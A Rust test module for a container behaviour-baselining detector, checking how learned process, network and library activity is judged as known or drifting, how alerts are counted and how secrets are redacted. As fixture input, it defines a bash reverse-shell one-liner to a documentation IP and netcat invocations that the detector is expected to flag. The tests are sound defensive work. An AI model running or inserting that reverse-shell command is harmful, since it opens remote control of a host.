mod bounds;
mod window;

use super::*;
use crate::policy::{MaturityMethod, Policy};
use crate::severity::Severity;
use crate::time::Duration;

fn line(seconds: i64, executable: &str, argv: &[&str]) -> Observation {
    let observation = serde_json::json!({
        "time": crate::testkit::at(seconds),
        "workload": "shop/Deployment/cart",
        "container": "app",
        "feed": "process",
        "process": {"executable": executable, "parent": "/usr/bin/python3", "argv": argv, "source": "image"},
    });
    serde_json::from_value(observation).expect("an observation")
}

fn policy(learning: Duration) -> Policy {
    let mut policy = Policy::default();
    policy.maturity.method = MaturityMethod::Elapsed;
    policy.maturity.minimum = learning;
    policy
}

fn learned() -> Learning {
    let mut learning = Learning::default();
    for number in 0..200 {
        let command = format!("tar czf /backup/db-{number}.tar.gz /data/shard{number}; ls -l /backup/{number}");
        learning.learn(&line(number * 60, "/usr/bin/bash", &["bash", "-c", &command]));
        learning.learn(&line(number * 60, "/usr/bin/date", &["date", "+%s"]));
    }
    learning
}

const SHELL: [&str; 3] = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4242 0>&1"];

#[test]
fn what_was_learned_is_known_and_what_is_strange_drifts_with_its_reasons() {
    let mut backtest = learned().finish(policy(Duration::ZERO));
    let known = backtest.judge(&line(20_000, "/usr/bin/date", &["date", "+%s"]));
    assert_eq!((known.verdict, known.rules), (Ruling::Known, vec![]));
    assert!(known.novelty.is_sign_positive(), "{}", known.novelty);
    let unusual = backtest.judge(&line(20_001, "/usr/bin/bash", &SHELL));
    assert_eq!(
        (unusual.verdict, &unusual.rules[..]),
        (Ruling::Drift, &["unusual-command"][..])
    );
    assert!(unusual.p.is_some_and(|p| p < 0.01), "{unusual:?}");
    assert!(
        unusual.capabilities.contains(&"opens a socket".to_owned()),
        "{unusual:?}"
    );
    let outside = backtest.judge(&line(20_002, "/usr/bin/nc", &["nc", "-l"]));
    assert_eq!(outside.rules[0], "process-outside-baseline");
    let summary = backtest.summary();
    assert_eq!(
        (summary.lines, summary.known, summary.drift, summary.alerts),
        (3, 1, 2, 2)
    );
}

#[test]
fn a_deviation_that_repeats_is_one_alert() {
    let mut backtest = learned().finish(policy(Duration::ZERO));
    for second in 0..50 {
        assert_eq!(
            backtest.judge(&line(20_000 + second, "/usr/bin/bash", &SHELL)).verdict,
            Ruling::Drift
        );
    }
    let summary = backtest.summary();
    assert_eq!((summary.drift, summary.alerts), (50, 1));
    assert!((summary.alerts_per_day - 1.0).abs() < f64::EPSILON);
}

#[test]
fn a_baseline_that_still_learns_scores_and_raises_nothing() {
    let mut backtest = learned().finish(policy(Duration::from_hours(24)));
    let judged = backtest.judge(&line(20_000, "/usr/bin/nc", &SHELL));
    assert_eq!((judged.verdict, judged.rules), (Ruling::Learned, vec![]));
    assert!(judged.p.is_some_and(|p| p < 0.01) && judged.novelty > 0.0);
    let later = backtest.judge(&line(100_000, "/usr/bin/id", &["id"]));
    assert_eq!(later.verdict, Ruling::Drift);
    assert_eq!(backtest.summary().containers[0].hours_to_maturity, Some(27));
}

#[test]
fn what_needs_no_baseline_is_not_learned_from_a_recording() {
    let mut learning = learned();
    let mut fileless = line(1, "/memfd:x", &["x"]);
    let crate::observation::Observed::Process(process) = &mut fileless.what else {
        panic!("a process");
    };
    process.source = crate::behaviour::SourceLayer::Memory;
    learning.learn(&fileless);
    let mut backtest = learning.finish(policy(Duration::ZERO));
    assert_eq!(backtest.judge(&fileless).rules[0], "fileless-execution");
}

#[test]
fn an_entry_that_was_not_seen_for_the_window_is_forgotten_while_others_are_seen() {
    let mut backtest = learned().finish(policy(Duration::ZERO));
    let old = [
        "bash",
        "-c",
        "tar czf /backup/db-7.tar.gz /data/shard7; ls -l /backup/7",
    ];
    // What was learned counts as seen on the first of them.
    for days in 1..10 {
        let judged = backtest.judge(&line(days * DAY, "/usr/bin/date", &["date", "+%s"]));
        assert_eq!(judged.verdict, Ruling::Known);
    }
    let judged = backtest.judge(&line(10 * DAY, "/usr/bin/bash", &old));
    assert_eq!(judged.rules, ["returned-behaviour"]);
}

#[test]
fn secrets_of_a_recording_are_not_shown() {
    let mut learning = Learning::default();
    learning.learn(&line(0, "/usr/bin/mysql", &["mysql", "-phunter2hunter2"]));
    let mut backtest = learning.finish(policy(Duration::ZERO));
    let judged = backtest.judge(&line(
        1,
        "/usr/bin/mysql",
        &["mysql", "-phunter2hunter3", "--token", "abcdefgh"],
    ));
    let written = serde_json::to_string(&judged).expect("JSON");
    assert!(
        !written.contains("hunter2") && !written.contains("abcdefgh"),
        "{written}"
    );
    assert!(written.contains("<secret:3>"), "{written}");
}

const HOUR: i64 = 3_600;
const DAY: i64 = 24 * HOUR;

/// A program each hour and, in a restless workload, one that never ran before every six hours.
fn hours(from: i64, to: i64, restless: bool) -> impl Iterator<Item = Observation> {
    (from..to)
        .flat_map(move |hour| {
            let usual = line(hour * HOUR, "/usr/bin/date", &["date"]);
            let new = line(hour * HOUR, &format!("/usr/bin/tool-{hour}"), &[]);
            [Some(usual), (restless && hour % 6 == 0).then_some(new)]
        })
        .flatten()
}

fn lived(hours_long: i64, restless: bool) -> Backtest {
    let mut learning = Learning::default();
    hours(0, hours_long, restless).for_each(|observation| learning.learn(&observation));
    learning.finish(policy(Duration::ZERO))
}

#[test]
fn what_is_new_weighs_more_where_hardly_anything_is_and_less_where_much_is() {
    for (restless, severity) in [(false, Severity::High), (true, Severity::Low)] {
        let mut backtest = lived(9 * 24, restless);
        for time in [9 * DAY, 10 * DAY] {
            let judged = backtest.judge(&line(time, "/usr/bin/nc", &["nc"]));
            assert_eq!((judged.verdict, judged.severity), (Ruling::Drift, Some(severity)));
        }
    }
}

#[test]
fn the_summary_says_how_many_alerts_were_expected_and_how_many_came() {
    let mut backtest = lived(9 * 24, true);
    hours(9 * 24, 16 * 24, true).for_each(|observation| {
        backtest.judge(&observation);
    });
    let summary = backtest.summary();
    let expected = summary.expected_alerts_per_week.expect("nine days tell");
    // One every six hours.
    assert!((27.0..30.0).contains(&expected), "{expected}");
    assert!(
        (27.0..30.0).contains(&summary.alerts_per_week),
        "{}",
        summary.alerts_per_week
    );
    let container = &summary.containers[0];
    assert_eq!(container.expected_alerts_per_week, summary.expected_alerts_per_week);
    assert!((container.alerts_per_week - summary.alerts_per_week).abs() < 1e-9);
}

#[test]
fn of_a_few_hours_no_rate_of_alerts_is_told() {
    let mut backtest = lived(20, true);
    backtest.judge(&line(20 * HOUR, "/usr/bin/nc", &["nc"]));
    assert_eq!(backtest.summary().expected_alerts_per_week, None);
}

fn of_feed(seconds: i64, feed: &str, part: &serde_json::Value) -> Observation {
    let observation = serde_json::json!({
        "time": crate::testkit::at(seconds),
        "workload": "shop/Deployment/cart",
        "container": "app",
        "feed": feed,
        feed: part,
    });
    serde_json::from_value(observation).expect("an observation")
}

fn flow(seconds: i64, name: &str, address: &str, sent: u64) -> Observation {
    let part = serde_json::json!({
        "executable": "/usr/bin/curl", "direction": "connect", "protocol": "tcp", "port": 443,
        "name": name, "address": address, "bytes_sent": sent,
    });
    of_feed(seconds, "network", &part)
}

fn library(seconds: i64, path: &str, content: &str, source: &str) -> Observation {
    let part = serde_json::json!({
        "kind": "library", "path": path, "sha256": content.repeat(64), "source": source, "executable": "/usr/bin/curl",
    });
    of_feed(seconds, "module", &part)
}

#[test]
fn flows_and_libraries_are_judged_as_the_operator_judges_them() {
    let mut learning = Learning::default();
    learning.learn(&flow(0, "api.example.org", "198.51.100.1", 1_000));
    learning.learn(&library(0, "/usr/lib/x.so", "a", "image"));
    let mut policy = policy(Duration::ZERO);
    policy.network.deny_networks = ["192.0.2.0/24".parse().expect("a range")].into();
    let mut backtest = learning.finish(policy);
    for (line, rules) in [
        (flow(100, "api.example.org", "198.51.9.1", 2_000), vec![]),
        (
            flow(101, "api.example.org", "203.0.113.1", 0),
            vec!["known-name-elsewhere"],
        ),
        (
            flow(102, "api.example.org", "203.0.113.1", 0),
            vec!["known-name-elsewhere"],
        ),
        (
            flow(103, "api.example.org", "198.51.100.1", 1 << 30),
            vec!["unusual-volume"],
        ),
        (
            flow(104, "new.example.org", "192.0.2.1", 0),
            vec!["new-destination", "denied-behaviour"],
        ),
        (library(105, "/usr/lib/y.so", "b", "image"), vec![]),
        (
            library(106, "/usr/lib/x.so", "c", "image-copied-up"),
            vec!["changed-hash"],
        ),
    ] {
        let judgement = backtest.judge(&line);
        assert_eq!(judgement.rules, rules, "{line:?}");
    }
    let summary = backtest.summary();
    assert_eq!((summary.lines, summary.drift), (7, 5));
}
